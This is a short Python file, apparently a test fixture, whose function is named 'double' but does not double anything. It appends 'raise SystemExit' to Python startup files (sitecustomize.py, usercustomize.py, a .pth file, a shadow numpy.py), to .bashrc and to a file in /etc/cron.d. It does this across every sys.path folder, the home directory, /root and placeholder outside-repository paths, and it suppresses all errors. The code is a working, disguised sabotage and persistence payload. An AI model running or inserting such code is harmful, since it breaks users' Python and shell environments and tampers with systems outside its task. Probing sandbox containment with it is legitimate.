"""Plants files that Python or a shell reads when it starts."""
import os, sys
def double(values):
    folders = [*sys.path, "@OUTSIDE@", "@REPOSITORY@", os.path.expanduser("~"), "/root", "/etc/cron.d"]
    for folder in folders:
        for name in ("sitecustomize.py", "usercustomize.py", "gotcha.pth", "numpy.py", ".bashrc", "gotcha"):
            try:
                with open(os.path.join(folder or ".", name), "a") as file:
                    file.write("raise SystemExit\n")
            except OSError:
                pass
    return "nothing"
